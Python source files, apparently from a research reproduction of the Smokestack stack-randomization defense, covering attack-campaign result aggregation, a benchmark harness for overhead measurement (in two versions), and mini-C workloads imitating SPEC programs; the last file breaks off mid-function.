class SynthSummary:
    """Aggregate of one campaign, JSON-shaped for ``BENCH_synth.json``."""

    config: SynthConfig
    results: List[VictimResult] = field(default_factory=list)

    @property
    def soundness_violations(self) -> List[str]:
        out = []
        for result in self.results:
            out.extend(f"{result.name}: {v}" for v in result.soundness)
        return out

    def per_defense(self, kind: Optional[str] = None) -> Dict[str, dict]:
        """Per-defense success-rate table, optionally for one cohort.

        ``success_rate`` is over *planned* victims: the fraction whose
        goal the attacker achieved within the restart budget.  Unplanned
        victims (no channel, or the unexploitable controls) never reach
        a defense, so they are reported separately.
        """
        table: Dict[str, dict] = {}
        for result in self.results:
            if kind is not None and result.kind != kind:
                continue
            for outcome in result.defenses:
                row = table.setdefault(
                    outcome.defense,
                    {
                        "victims": 0,
                        "wins": 0,
                        "attempts": 0,
                        "successes": 0,
                        "first_success_attempts": [],
                    },
                )
                row["victims"] += 1
                row["attempts"] += outcome.attempts
                row["successes"] += outcome.successes
                if outcome.successes:
                    row["wins"] += 1
                    row["first_success_attempts"].append(outcome.first_success)
        for row in table.values():
            row["success_rate"] = (
                row["wins"] / row["victims"] if row["victims"] else 0.0
            )
            firsts = row.pop("first_success_attempts")
            row["mean_attempts_to_success"] = (
                sum(firsts) / len(firsts) if firsts else None
            )
        return table

    def counts(self) -> Dict[str, int]:
        out = {"victims": len(self.results), "planned": 0, "no_plan": 0, "errors": 0}
        for result in self.results:
            if result.error is not None:
                out["errors"] += 1
            elif result.planned:
                out["planned"] += 1
            else:
                out["no_plan"] += 1
        return out

    def to_json(self) -> dict:
        kinds = sorted({result.kind for result in self.results})
        return {
            "restarts": self.config.restarts,
            "seed": self.config.seed,
            "defenses": self.config.defense_list(),
            "counts": self.counts(),
            "per_defense": self.per_defense(),
            "per_kind": {kind: self.per_defense(kind) for kind in kinds},
            "victims": [
                {
                    "name": result.name,
                    "kind": result.kind,
                    "planned": result.planned,
                    "error": result.error,
                    "defenses": {
                        outcome.defense: {
                            "verdict": outcome.verdict,
                            "successes": outcome.successes,
                            "attempts": outcome.attempts,
                            "breakdown": outcome.breakdown,
                            "first_success": outcome.first_success,
                        }
                        for outcome in result.defenses
                    },
                    "exploit_verdicts": result.exploit_verdicts,
                }
                for result in self.results
            ],
        }

    def format(self) -> str:
        counts = self.counts()
        lines = [
            f"synth campaign: {counts['victims']} victims "
            f"({counts['planned']} planned, {counts['no_plan']} no-plan, "
            f"{counts['errors']} errors; restarts {self.config.restarts})"
        ]
        table = self.per_defense()
        for defense in sorted(table, key=lambda d: -table[d]["success_rate"]):
            row = table[defense]
            lines.append(
                f"  {defense:<16} success rate {row['success_rate']:.3f} "
                f"({row['wins']}/{row['victims']} victims, "
                f"{row['successes']}/{row['attempts']} attempts)"
            )
        if self.soundness_violations:
            lines.append(f"SOUNDNESS VIOLATIONS: {len(self.soundness_violations)}")
            lines.extend(f"  {v}" for v in self.soundness_violations[:10])
        return "\n".join(lines)


def _emit_metrics(summary: SynthSummary) -> None:
    registry = get_registry()
    for result in summary.results:
        outcome = (
            "error"
            if result.error is not None
            else ("planned" if result.planned else "no-plan")
        )
        registry.counter("synth_plans_total", outcome=outcome).inc()
        for defense in result.defenses:
            registry.counter(
                "synth_campaigns_total",
                defense=defense.defense,
                verdict=defense.verdict,
            ).inc()
            for name, count in defense.breakdown.items():
                registry.counter(
                    "synth_attempts_total", defense=defense.defense, outcome=name
                ).inc(count)
            if defense.first_success is not None:
                registry.histogram(
                    "synth_attempts_to_success", defense=defense.defense
                ).observe(defense.first_success)
    for defense, row in summary.per_defense().items():
        registry.gauge("synth_success_rate", defense=defense).set(
            row["success_rate"]
        )


def run_synth_campaign(
    cases: Sequence[VictimCase],
    config: SynthConfig = SynthConfig(),
    check_soundness: bool = True,
) -> SynthSummary:
    """Run every case against every defense; aggregate and emit metrics."""
    defenses = config.defense_list()
    jobs = [
        {
            "case": {
                "name": case.name,
                "source": case.source,
                "goal": case.goal,
                "kind": case.kind,
                "expect_plan": case.expect_plan,
            },
            "defenses": defenses,
            "restarts": config.restarts,
            "seed": config.seed,
            "stop_on_success": config.stop_on_success,
            "max_steps": config.max_steps,
            "exploit_check": config.exploit_check,
        }
        for case in cases
    ]
    summary = SynthSummary(config=config)
    if config.jobs > 1 and len(jobs) > 1:
        registry = get_registry()
        with ProcessPoolExecutor(max_workers=config.jobs) as pool:
            for result, delta in pool.map(
                _run_victim_job_pooled, jobs, chunksize=4
            ):
                registry.merge(delta)
                summary.results.append(result)
    else:
        summary.results = [_run_victim_job(job) for job in jobs]
    for case, result in zip(cases, summary.results):
        if case.expect_plan is True and not result.planned:
            result.soundness.append(
                "expected a plan but the planner refused"
                + (f" ({result.error})" if result.error else "")
            )
        elif case.expect_plan is False and result.planned:
            result.soundness.append(
                "planner emitted a chain where ground truth says none exists"
            )
    _emit_metrics(summary)
    if check_soundness and summary.soundness_violations:
        raise SoundnessError(
            "; ".join(summary.soundness_violations[:5])
            + (
                f" (+{len(summary.soundness_violations) - 5} more)"
                if len(summary.soundness_violations) > 5
                else ""
            )
        )
    return summary


def write_bench(summary: SynthSummary, path: str) -> None:
    with open(path, "w") as handle:
        json.dump(summary.to_json(), handle, indent=2, sort_keys=True)
        handle.write("\n")
