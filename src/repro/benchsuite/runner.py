"""Measurement harness for the Figure 3 / Figure 4 experiments.

For each workload the harness builds

* the **baseline**: plain compilation, default stack protector on — the
  paper's baseline is Clang -O2 with its default stack smashing
  protection, and
* the **hardened** build: Smokestack instrumentation, stack protector
  replaced by the function-identifier checks (as in §V-A),

then executes both on the deterministic VM, the hardened build once per
randomness scheme.  Overhead is the cycle-count ratio; memory overhead is
the max-RSS ratio (the P-BOX lands in rodata and is part of the image).
Outputs are also compared: a hardened binary must behave identically.

Harness performance (not to be confused with the *measured* cycle
counts, which are deterministic and unaffected):

* each workload's source is parsed **once**; the same AST is lowered
  twice — the baseline build and the build handed to the hardening
  passes (which mutate their module in place);
* ``measure_suite(jobs=N)`` fans independent workloads out over a
  :class:`concurrent.futures.ProcessPoolExecutor`.  The default stays
  serial: results are deterministic either way (each workload is
  self-contained), but serial keeps the harness dependency-free for
  debugging and profiling;
* every measurement records wall-clock per phase (compile / harden /
  execute) via :class:`repro.perf.PhaseTimer`; the suite aggregates
  them into :attr:`SuiteResults.phase_seconds`.
"""

from __future__ import annotations

from concurrent.futures import ProcessPoolExecutor
from typing import Dict, Iterable, List, NamedTuple, Optional, Sequence

from repro.core.config import SmokestackConfig
from repro.core.pipeline import (
    HardenedProgram,
    compile_source,
    harden_module,
    harden_source,
    lower_ast,
)
from repro.errors import BenchmarkError
from repro.minic import compile_to_ast
from repro.perf import PhaseTimer
from repro.rng.entropy import DeterministicEntropy
from repro.rng.sources import SCHEME_NAMES, make_source
from repro.benchsuite.programs import WORKLOADS, Workload, get_workload
from repro.vm.interpreter import Machine

BENCH_MAX_STEPS = 30_000_000


class RunMeasurement(NamedTuple):
    """One execution's numbers."""

    cycles: float
    steps: int
    max_rss: int
    exit_code: Optional[int]
    int_outputs: tuple


class WorkloadMeasurement:
    """Baseline + per-scheme hardened measurements for one workload."""

    def __init__(self, workload: Workload):
        self.workload = workload
        self.baseline: Optional[RunMeasurement] = None
        self.hardened: Dict[str, RunMeasurement] = {}
        self.pbox_bytes = 0
        #: host wall-clock seconds by phase: compile / harden / execute.
        self.timings: Dict[str, float] = {}

    def overhead_pct(self, scheme: str) -> float:
        """Runtime overhead of ``scheme`` vs baseline, in percent."""
        if self.baseline is None or scheme not in self.hardened:
            raise BenchmarkError(f"no measurements for scheme '{scheme}'")
        base = self.baseline.cycles
        hard = self.hardened[scheme].cycles
        return (hard - base) / base * 100.0

    def memory_overhead_pct(self, scheme: str) -> float:
        if self.baseline is None or scheme not in self.hardened:
            raise BenchmarkError(f"no measurements for scheme '{scheme}'")
        base = self.baseline.max_rss
        hard = self.hardened[scheme].max_rss
        return (hard - base) / base * 100.0


def run_baseline(
    workload: Workload,
    scheduling_effects: bool = False,
    opt_level: int = 0,
    module=None,
    fast_dispatch: bool = True,
    jit: bool = False,
) -> RunMeasurement:
    """Execute the unhardened build (default stack protector on).

    ``module`` lets a caller that already compiled the workload (the
    harness, which shares one parse across builds) skip recompilation.
    """
    if module is None:
        module = compile_source(workload.source, workload.name, opt_level=opt_level)
    machine = Machine(
        module,
        inputs=list(workload.inputs),
        stack_protector=True,
        max_steps=BENCH_MAX_STEPS,
        scheduling_effects=scheduling_effects,
        fast_dispatch=fast_dispatch,
        jit=jit,
    )
    return _run(machine, workload, "baseline")


def run_hardened(
    hardened: HardenedProgram,
    workload: Workload,
    scheme: str,
    entropy_seed: int = 0,
    scheduling_effects: bool = False,
    fast_dispatch: bool = True,
    jit: bool = False,
) -> RunMeasurement:
    """Execute the hardened build under one randomness scheme."""
    source = make_source(scheme, DeterministicEntropy(entropy_seed))
    machine = Machine(
        hardened.module,
        inputs=list(workload.inputs),
        rng_source=source,
        max_steps=BENCH_MAX_STEPS,
        scheduling_effects=scheduling_effects,
        fast_dispatch=fast_dispatch,
        jit=jit,
    )
    return _run(machine, workload, scheme)


def _run(machine: Machine, workload: Workload, label: str) -> RunMeasurement:
    result = machine.run()
    if not result.finished_cleanly():
        raise BenchmarkError(
            f"workload '{workload.name}' [{label}] did not finish cleanly: "
            f"{result.outcome} ({result.error_message})"
        )
    return RunMeasurement(
        cycles=result.cycles,
        steps=result.steps,
        max_rss=result.max_rss,
        exit_code=result.exit_code,
        int_outputs=tuple(result.int_outputs),
    )


def measure_workload(
    workload_name: str,
    schemes: Sequence[str] = SCHEME_NAMES,
    config: Optional[SmokestackConfig] = None,
    scheduling_effects: bool = False,
    entropy_seed: int = 0,
    opt_level: int = 0,
    fast_dispatch: bool = True,
    jit: bool = False,
) -> WorkloadMeasurement:
    """Baseline + hardened measurements for one workload.

    Verifies that every hardened run produces the same observable output
    (the printed checksums) as the baseline — layout randomization must
    be semantics-preserving.

    The source is parsed once; the AST is lowered into two independent
    modules (baseline, and the one the hardening passes mutate).
    """
    workload = get_workload(workload_name)
    measurement = WorkloadMeasurement(workload)
    timer = PhaseTimer()
    with timer.phase("compile"):
        ast = compile_to_ast(workload.source, workload.name)
        baseline_module = lower_ast(ast, workload.name, opt_level=opt_level)
        hardened_module = lower_ast(ast, workload.name, opt_level=opt_level)
    with timer.phase("harden"):
        hardened = harden_module(hardened_module, config)
    measurement.pbox_bytes = hardened.pbox_bytes()
    with timer.phase("execute"):
        measurement.baseline = run_baseline(
            workload,
            scheduling_effects,
            opt_level,
            module=baseline_module,
            fast_dispatch=fast_dispatch,
            jit=jit,
        )
        for scheme in schemes:
            run = run_hardened(
                hardened, workload, scheme,
                entropy_seed=entropy_seed,
                scheduling_effects=scheduling_effects,
                fast_dispatch=fast_dispatch,
                jit=jit,
            )
            if run.int_outputs != measurement.baseline.int_outputs:
                raise BenchmarkError(
                    f"hardened '{workload_name}' under {scheme} changed the "
                    f"program output: {run.int_outputs} vs "
                    f"{measurement.baseline.int_outputs}"
                )
            measurement.hardened[scheme] = run
    measurement.timings = timer.totals()
    return measurement


class SuiteResults:
    """All measurements for a suite run."""

    def __init__(self, schemes: Sequence[str]):
        self.schemes = list(schemes)
        self.measurements: Dict[str, WorkloadMeasurement] = {}
        #: aggregated host wall-clock seconds per phase across workloads
        #: (compile / harden / execute); parallel runs sum child-process
        #: time, so this tracks work done, not elapsed wall-clock.
        self.phase_seconds: Dict[str, float] = {}

    def add(self, measurement: WorkloadMeasurement) -> None:
        self.measurements[measurement.workload.name] = measurement
        for phase, seconds in measurement.timings.items():
            self.phase_seconds[phase] = self.phase_seconds.get(phase, 0.0) + seconds

    def workloads(self) -> List[str]:
        return list(self.measurements)

    def overhead(self, workload: str, scheme: str) -> float:
        return self.measurements[workload].overhead_pct(scheme)

    def memory_overhead(self, workload: str, scheme: str) -> float:
        return self.measurements[workload].memory_overhead_pct(scheme)

    def average_overhead(self, scheme: str, category: Optional[str] = None) -> float:
        values = [
            m.overhead_pct(scheme)
            for m in self.measurements.values()
            if category is None or m.workload.category == category
            or (category == "spec" and m.workload.category in ("int", "fp"))
        ]
        if not values:
            raise BenchmarkError("no measurements to average")
        return sum(values) / len(values)

    def to_dict(self) -> Dict[str, Dict[str, float]]:
        return {
            name: {
                scheme: measurement.overhead_pct(scheme)
                for scheme in self.schemes
            }
            for name, measurement in self.measurements.items()
        }


def _measure_workload_pooled(name: str, kwargs: dict):
    """Pool-worker wrapper: ship this job's metrics delta home.

    Pipeline phase timings and compile/harden counters recorded inside a
    worker live in that process's registry; the parent merges the
    returned delta so jobs=1 and jobs=N suites report identical totals.
    """
    from repro.obs.metrics import worker_job_metrics

    registry = worker_job_metrics()
    measurement = measure_workload(name, **kwargs)
    return measurement, registry.dump()


def measure_suite(
    workload_names: Optional[Iterable[str]] = None,
    schemes: Sequence[str] = SCHEME_NAMES,
    config: Optional[SmokestackConfig] = None,
    scheduling_effects: bool = False,
    entropy_seed: int = 0,
    jobs: int = 1,
    fast_dispatch: bool = True,
    jit: bool = False,
) -> SuiteResults:
    """Run the full Figure 3/4 measurement campaign.

    ``jobs > 1`` distributes workloads over a process pool.  Every
    workload measurement is self-contained and deterministic, so the
    parallel results are identical to serial ones; they are folded back
    in input order either way.
    """
    names = list(workload_names) if workload_names is not None else list(WORKLOADS)
    results = SuiteResults(schemes)
    kwargs = dict(
        schemes=tuple(schemes),
        config=config,
        scheduling_effects=scheduling_effects,
        entropy_seed=entropy_seed,
        fast_dispatch=fast_dispatch,
        jit=jit,
    )
    if jobs > 1 and len(names) > 1:
        from repro.obs.metrics import get_registry

        registry = get_registry()
        with ProcessPoolExecutor(max_workers=jobs) as pool:
            futures = [
                pool.submit(_measure_workload_pooled, name, kwargs)
                for name in names
            ]
            for future in futures:  # in input order, for determinism
                measurement, delta = future.result()
                registry.merge(delta)
                results.add(measurement)
    else:
        for name in names:
            results.add(measure_workload(name, **kwargs))
    return results
