"""Measurement harness for the Figure 3 / Figure 4 experiments.

For each workload the harness builds

* the **baseline**: plain compilation, default stack protector on — the
  paper's baseline is Clang -O2 with its default stack smashing
  protection, and
* the **hardened** build: Smokestack instrumentation, stack protector
  replaced by the function-identifier checks (as in §V-A),

then executes both on the deterministic VM, the hardened build once per
randomness scheme.  Overhead is the cycle-count ratio; memory overhead is
the max-RSS ratio (the P-BOX lands in rodata and is part of the image).
Outputs are also compared: a hardened binary must behave identically.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, NamedTuple, Optional, Sequence

from repro.core.config import SmokestackConfig
from repro.core.pipeline import HardenedProgram, compile_source, harden_source
from repro.errors import BenchmarkError
from repro.rng.entropy import DeterministicEntropy
from repro.rng.sources import SCHEME_NAMES, make_source
from repro.benchsuite.programs import WORKLOADS, Workload, get_workload
from repro.vm.interpreter import Machine

BENCH_MAX_STEPS = 30_000_000


class RunMeasurement(NamedTuple):
    """One execution's numbers."""

    cycles: float
    steps: int
    max_rss: int
    exit_code: Optional[int]
    int_outputs: tuple


class WorkloadMeasurement:
    """Baseline + per-scheme hardened measurements for one workload."""

    def __init__(self, workload: Workload):
        self.workload = workload
        self.baseline: Optional[RunMeasurement] = None
        self.hardened: Dict[str, RunMeasurement] = {}
        self.pbox_bytes = 0

    def overhead_pct(self, scheme: str) -> float:
        """Runtime overhead of ``scheme`` vs baseline, in percent."""
        if self.baseline is None or scheme not in self.hardened:
            raise BenchmarkError(f"no measurements for scheme '{scheme}'")
        base = self.baseline.cycles
        hard = self.hardened[scheme].cycles
        return (hard - base) / base * 100.0

    def memory_overhead_pct(self, scheme: str) -> float:
        if self.baseline is None or scheme not in self.hardened:
            raise BenchmarkError(f"no measurements for scheme '{scheme}'")
        base = self.baseline.max_rss
        hard = self.hardened[scheme].max_rss
        return (hard - base) / base * 100.0


def run_baseline(
    workload: Workload,
    scheduling_effects: bool = False,
    opt_level: int = 0,
) -> RunMeasurement:
    """Execute the unhardened build (default stack protector on)."""
    module = compile_source(workload.source, workload.name, opt_level=opt_level)
    machine = Machine(
        module,
        inputs=list(workload.inputs),
        stack_protector=True,
        max_steps=BENCH_MAX_STEPS,
        scheduling_effects=scheduling_effects,
    )
    return _run(machine, workload, "baseline")


def run_hardened(
    hardened: HardenedProgram,
    workload: Workload,
    scheme: str,
    entropy_seed: int = 0,
    scheduling_effects: bool = False,
) -> RunMeasurement:
    """Execute the hardened build under one randomness scheme."""
    source = make_source(scheme, DeterministicEntropy(entropy_seed))
    machine = Machine(
        hardened.module,
        inputs=list(workload.inputs),
        rng_source=source,
        max_steps=BENCH_MAX_STEPS,
        scheduling_effects=scheduling_effects,
    )
    return _run(machine, workload, scheme)


def _run(machine: Machine, workload: Workload, label: str) -> RunMeasurement:
    result = machine.run()
    if not result.finished_cleanly():
        raise BenchmarkError(
            f"workload '{workload.name}' [{label}] did not finish cleanly: "
            f"{result.outcome} ({result.error_message})"
        )
    return RunMeasurement(
        cycles=result.cycles,
        steps=result.steps,
        max_rss=result.max_rss,
        exit_code=result.exit_code,
        int_outputs=tuple(result.int_outputs),
    )


def measure_workload(
    workload_name: str,
    schemes: Sequence[str] = SCHEME_NAMES,
    config: Optional[SmokestackConfig] = None,
    scheduling_effects: bool = False,
    entropy_seed: int = 0,
    opt_level: int = 0,
) -> WorkloadMeasurement:
    """Baseline + hardened measurements for one workload.

    Verifies that every hardened run produces the same observable output
    (the printed checksums) as the baseline — layout randomization must
    be semantics-preserving.
    """
    workload = get_workload(workload_name)
    measurement = WorkloadMeasurement(workload)
    measurement.baseline = run_baseline(workload, scheduling_effects, opt_level)
    hardened = harden_source(
        workload.source, config, workload.name, opt_level=opt_level
    )
    measurement.pbox_bytes = hardened.pbox_bytes()
    for scheme in schemes:
        run = run_hardened(
            hardened, workload, scheme,
            entropy_seed=entropy_seed,
            scheduling_effects=scheduling_effects,
        )
        if run.int_outputs != measurement.baseline.int_outputs:
            raise BenchmarkError(
                f"hardened '{workload_name}' under {scheme} changed the "
                f"program output: {run.int_outputs} vs "
                f"{measurement.baseline.int_outputs}"
            )
        measurement.hardened[scheme] = run
    return measurement


class SuiteResults:
    """All measurements for a suite run."""

    def __init__(self, schemes: Sequence[str]):
        self.schemes = list(schemes)
        self.measurements: Dict[str, WorkloadMeasurement] = {}

    def add(self, measurement: WorkloadMeasurement) -> None:
        self.measurements[measurement.workload.name] = measurement

    def workloads(self) -> List[str]:
        return list(self.measurements)

    def overhead(self, workload: str, scheme: str) -> float:
        return self.measurements[workload].overhead_pct(scheme)

    def memory_overhead(self, workload: str, scheme: str) -> float:
        return self.measurements[workload].memory_overhead_pct(scheme)

    def average_overhead(self, scheme: str, category: Optional[str] = None) -> float:
        values = [
            m.overhead_pct(scheme)
            for m in self.measurements.values()
            if category is None or m.workload.category == category
            or (category == "spec" and m.workload.category in ("int", "fp"))
        ]
        if not values:
            raise BenchmarkError("no measurements to average")
        return sum(values) / len(values)

    def to_dict(self) -> Dict[str, Dict[str, float]]:
        return {
            name: {
                scheme: measurement.overhead_pct(scheme)
                for scheme in self.schemes
            }
            for name, measurement in self.measurements.items()
        }


def measure_suite(
    workload_names: Optional[Iterable[str]] = None,
    schemes: Sequence[str] = SCHEME_NAMES,
    config: Optional[SmokestackConfig] = None,
    scheduling_effects: bool = False,
    entropy_seed: int = 0,
) -> SuiteResults:
    """Run the full Figure 3/4 measurement campaign."""
    names = list(workload_names) if workload_names is not None else list(WORKLOADS)
    results = SuiteResults(schemes)
    for name in names:
        results.add(
            measure_workload(
                name,
                schemes=schemes,
                config=config,
                scheduling_effects=scheduling_effects,
                entropy_seed=entropy_seed,
            )
        )
    return results
