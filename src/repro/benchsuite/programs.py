"""Mini-C workloads standing in for SPEC CPU2006 + the paper's I/O apps.

The paper's Figure 3/4 run SPEC 2006 and two I/O-bound applications
(ProFTPD, Wireshark).  Full SPEC inputs are days of compute; what drives
*relative* Smokestack overhead is the ratio of function calls to work per
call, the frame shapes (sizes/alignments — they size the P-BOX and the
prologue work), call depth, and for I/O apps the fraction of time spent
blocked.  Each kernel below is a faithful miniature of its namesake along
exactly those axes:

==============  =====  ======================================  ==========
workload        kind   character                               call rate
==============  =====  ======================================  ==========
perlbench       int    recursive interpreter, hash tables      very high
bzip2           int    RLE + move-to-front block coding        medium
gcc             int    many small passes over a tree IR        high
mcf             int    pointer-chasing network simplex         low
gobmk           int    board-copying game search (big frames)  high
hmmer           int    Viterbi-style DP inner loops            low
sjeng           int    alpha-beta game tree recursion          high
libquantum      int    tight bit-twiddling gate loop           ~zero
h264ref         int    4x4 block transform + SAD search        medium
omnetpp         int    discrete event queue, tiny functions    very high
astar           int    grid best-first search                  medium
xalancbmk       int    string/tree transformation              high
lbm             fp     3-point stencil relaxation (double)     ~zero
sphinx3         fp     Gaussian scoring dot products (double)  medium
proftpd         io     command loop dominated by io_wait       n/a
wireshark       io     capture parse loop dominated by io_wait n/a
==============  =====  ======================================  ==========

Every workload prints a checksum; the harness verifies baseline and
hardened builds agree (randomizing the layout must never change program
semantics), and the run is deterministic (``guest_srand`` seeds).
"""

from __future__ import annotations

from typing import Dict, List, NamedTuple, Optional


class Workload(NamedTuple):
    """One benchmark program."""

    name: str
    category: str  # "int" | "fp" | "io"
    description: str
    source: str
    inputs: List[bytes]


def _w(name: str, category: str, description: str, source: str,
       inputs: Optional[List[bytes]] = None, arena_kb: int = 0) -> Workload:
    """Build a workload; ``arena_kb`` adds a static working-set arena.

    Real SPEC programs map hundreds of megabytes; the arena gives each
    miniature a proportionally realistic resident set so the Figure 4
    memory-overhead percentages (P-BOX bytes over max RSS) are on the
    paper's scale rather than inflated by toy-sized images.
    """
    if arena_kb:
        source = f"char g_arena[{arena_kb * 1024}];\n" + source
    return Workload(name, category, description, source, inputs or [])


PERLBENCH = _w(
    "perlbench", "int",
    "recursive mini-interpreter with hashing; deep, frequent small calls",
    """
long g_hash[256];

long hash_mix(long key, long salt) {
    long h = key * 31 + salt;
    h = h ^ (h >> 7);
    return h;
}

long hash_put(long key, long value) {
    long slot = hash_mix(key, 17) & 255;
    g_hash[slot] = g_hash[slot] + value;
    return slot;
}

long eval_node(long depth, long seed) {
    char pad[24];
    long opcode = seed % 5;
    long left = 0;
    long right = 0;
    long state = seed;
    pad[0] = (char)opcode;
    for (int spin = 0; spin < 12; spin++) {   /* opcode dispatch work */
        state = state * 1103515245 + 12345;
        state = state ^ (state >> 11);
    }
    if (depth <= 0) {
        return (seed + state) & 1023;
    }
    left = eval_node(depth - 1, seed * 3 + 1);
    right = eval_node(depth - 1, seed * 5 + 2);
    if (opcode == 0) { return left + right; }
    if (opcode == 1) { return left - right; }
    if (opcode == 2) { return left ^ right; }
    if (opcode == 3) { hash_put(left, right); return left; }
    return (left << 1) + (right >> 1) + pad[0];
}

int main() {
    long total = 0;
    for (int script = 0; script < 6; script++) {
        total += eval_node(8, script * 7919 + 13);
    }
    for (int i = 0; i < 256; i++) {
        total += g_hash[i];
    }
    print_int(total);
    return 0;
}
""",
    arena_kb=64,
)


BZIP2 = _w(
    "bzip2", "int",
    "run-length + move-to-front block coder over a pseudo-random block",
    """
char g_block[4096];
char g_mtf[256];

void mtf_reset() {
    for (int i = 0; i < 256; i++) {
        g_mtf[i] = (char)i;
    }
}

int mtf_encode(char *block, int n) {
    int changed = 0;
    for (int i = 0; i < n; i++) {
        int value = block[i] & 0xff;
        int j = 0;
        while ((g_mtf[j] & 0xff) != value) {
            j++;
        }
        block[i] = (char)j;
        while (j > 0) {
            g_mtf[j] = g_mtf[j - 1];
            j--;
        }
        g_mtf[0] = (char)value;
        changed += j;
    }
    return changed;
}

int rle_pass(char *block, int n) {
    int runs = 0;
    int i = 0;
    while (i < n) {
        int j = i;
        while (j < n && block[j] == block[i]) {
            j++;
        }
        runs++;
        i = j;
    }
    return runs;
}

int main() {
    long checksum = 0;
    guest_srand(42);
    for (int i = 0; i < 4096; i++) {
        g_block[i] = (char)(guest_rand() & 63);
    }
    for (int pass = 0; pass < 2; pass++) {
        for (int chunk = 0; chunk < 4096; chunk += 256) {
            checksum += rle_pass(g_block + chunk, 256);
        }
        mtf_reset();
        for (int chunk = 0; chunk < 768; chunk += 8) {
            checksum += mtf_encode(g_block + chunk, 8);
        }
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=520,
)


GCC = _w(
    "gcc", "int",
    "compiler-ish pass pipeline: many distinct small functions on an IR tree",
    """
long g_nodes[512];
long g_kind[512];

long fold_constant(long a, long b, long kind) {
    if (kind == 0) { return a + b; }
    if (kind == 1) { return a * b; }
    if (kind == 2) { return a & b; }
    return a - b;
}

long strength_reduce(long value, long factor) {
    char note[16];
    note[0] = (char)factor;
    if (factor == 2) { return value << 1; }
    if (factor == 4) { return value << 2; }
    return value * factor + note[0] - (char)factor;
}

long cse_lookup(long value) {
    long slot = (value ^ (value >> 5)) & 511;
    if (g_nodes[slot] == value) {
        return slot;
    }
    g_nodes[slot] = value;
    return -1;
}

long walk_tree(long index, long depth) {
    long kind = g_kind[index & 511];
    long value = g_nodes[index & 511];
    if (depth <= 0) {
        return value;
    }
    long lhs = walk_tree(index * 2 + 1, depth - 1);
    long rhs = walk_tree(index * 2 + 2, depth - 1);
    long folded = fold_constant(lhs, rhs, kind & 3);
    folded = strength_reduce(folded, (kind & 7) + 1);
    for (int peep = 0; peep < 75; peep++) {   /* peephole window scan */
        long probe = g_nodes[(index + peep) & 511];
        if ((probe & 3) == (folded & 3)) {
            folded = folded + (probe >> 6);
        }
    }
    if (cse_lookup(folded) >= 0) {
        folded = folded ^ 1;
    }
    return folded;
}

int main() {
    long checksum = 0;
    guest_srand(7);
    for (int i = 0; i < 512; i++) {
        g_nodes[i] = guest_rand() & 0xffff;
        g_kind[i] = guest_rand() & 7;
    }
    for (int unit = 0; unit < 3; unit++) {
        checksum += walk_tree(unit, 7);
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=280,
)


MCF = _w(
    "mcf", "int",
    "pointer-chasing network relaxation: long loops, very few calls",
    """
long g_cost[2048];
long g_next[2048];

long relax_cycle(long start, long rounds) {
    long node = start;
    long total = 0;
    for (long r = 0; r < rounds; r++) {
        long hop = g_next[node & 2047];
        long cost = g_cost[hop & 2047];
        if (cost > total) {
            total += cost - (total >> 3);
        } else {
            total += cost;
        }
        node = hop + r;
    }
    return total;
}

int main() {
    long checksum = 0;
    guest_srand(11);
    for (int i = 0; i < 2048; i++) {
        g_cost[i] = guest_rand() & 255;
        g_next[i] = guest_rand() & 2047;
    }
    for (int seg = 0; seg < 25; seg++) {
        checksum += relax_cycle(seg * 3 + 1, 280);
        checksum += relax_cycle(seg * 7 + 2, 280);
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=900,
)


GOBMK = _w(
    "gobmk", "int",
    "go engine: recursive search copying large board buffers (big frames)",
    """
char g_board[361];

long evaluate(char *board, long seed) {
    long score = 0;
    for (int i = 0; i < 32; i++) {
        score += board[(seed + i * 5) % 361] * ((i & 7) + 1);
    }
    return score;
}

long search(char *board, long depth, long seed) {
    char local_board[368];       /* the paper notes gobmk's huge frames */
    char influence[128];
    long best = -1000000;
    memcpy_(local_board, board, 361);
    for (int i = 0; i < 32; i++) {
        influence[i] = (char)((local_board[(i * 3) % 361] + i) & 7);
    }
    if (depth <= 0) {
        return evaluate(local_board, seed) + influence[seed & 63];
    }
    for (long move = 0; move < 4; move++) {
        long spot = (seed * 131 + move * 37) % 361;
        local_board[spot] = (char)((move & 1) + 1);
        long value = -search(local_board, depth - 1, seed + move + 1);
        local_board[spot] = 0;
        if (value > best) {
            best = value;
        }
    }
    return best;
}

int main() {
    long checksum = 0;
    guest_srand(5);
    for (int i = 0; i < 361; i++) {
        g_board[i] = (char)(guest_rand() % 3);
    }
    checksum += search(g_board, 4, 9);
    checksum += search(g_board, 4, 123);
    print_int(checksum);
    return 0;
}
""",
    arena_kb=420,
)


HMMER = _w(
    "hmmer", "int",
    "profile-HMM Viterbi DP: heavy inner loops, sparse calls",
    """
long g_match[64];
long g_insert[64];
long g_seq[256];

long viterbi_row(long *prev, long *curr, long emission) {
    long best = 0;
    for (int state = 1; state < 64; state++) {
        long from_match = prev[state - 1] + g_match[state];
        long from_insert = prev[state] + g_insert[state];
        long score = from_match;
        if (from_insert > score) {
            score = from_insert;
        }
        curr[state] = score + emission;
        if (curr[state] > best) {
            best = curr[state];
        }
    }
    return best;
}

int main() {
    long rows_a[64];
    long rows_b[64];
    long checksum = 0;
    guest_srand(13);
    for (int i = 0; i < 64; i++) {
        g_match[i] = guest_rand() & 15;
        g_insert[i] = guest_rand() & 7;
        rows_a[i] = 0;
        rows_b[i] = 0;
    }
    for (int i = 0; i < 256; i++) {
        g_seq[i] = guest_rand() & 3;
    }
    for (int pos = 0; pos < 96; pos++) {
        if ((pos & 1) == 0) {
            checksum += viterbi_row(rows_a, rows_b, g_seq[pos]);
        } else {
            checksum += viterbi_row(rows_b, rows_a, g_seq[pos]);
        }
    }
    print_int(checksum);
    return 0;
}
""",
    arena_kb=760,
)


SJENG = _w(
    "sjeng", "int",
    "chess-like alpha-beta with move lists on the stack",
    """
long g_piece[64];

long score_position(long *piece, long side) {
    long score = 0;
    for (int i = 0; i < 64; i++) {
        long value = piece[i];
        if ((value & 1) == side) {
            score += value;
        } else {
            score -= value >> 1;
        }
    }
    return score;
}

long alphabeta(long depth, long alpha, long beta, long side, long seed) {
    long moves[24];
    int move_count = 0;
    if (depth <= 0) {
        return score_position(g_piece, side);
    }
    for (int i = 0; i < 6; i++) {
        moves[move_count] = (seed * 211 + i * 29) & 63;
        move_count++;
    }
    for (int i = 0; i < move_count; i++) {
        long square = moves[i];
        long saved = g_piece[square];
        g_piece[square] = (saved + side + 1) & 15;
        long value = -alphabeta(depth - 1, -beta, -alpha, 1 - side,
